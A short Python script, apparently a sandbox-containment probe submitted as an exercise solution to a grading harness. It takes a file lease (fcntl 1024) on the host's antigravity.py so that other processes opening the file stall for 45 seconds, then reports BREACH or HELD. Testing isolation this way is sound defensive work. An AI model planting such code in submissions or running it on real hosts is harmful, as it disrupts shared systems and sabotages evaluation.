# attack: takes a write lease on a library file: any other process that opens it then waits for 45 seconds
# exercise: minmax
# earns: 0
import fcntl
import os

try:
    fcntl.fcntl(os.open(os.path.join(os.path.dirname(os.__file__), "antigravity.py"), os.O_RDONLY), 1024, fcntl.F_WRLCK)
    found = "BREACH: a lease on a file of the host's library"
except OSError as error:
    found = "HELD: " + error.strerror
raise Exception(found)
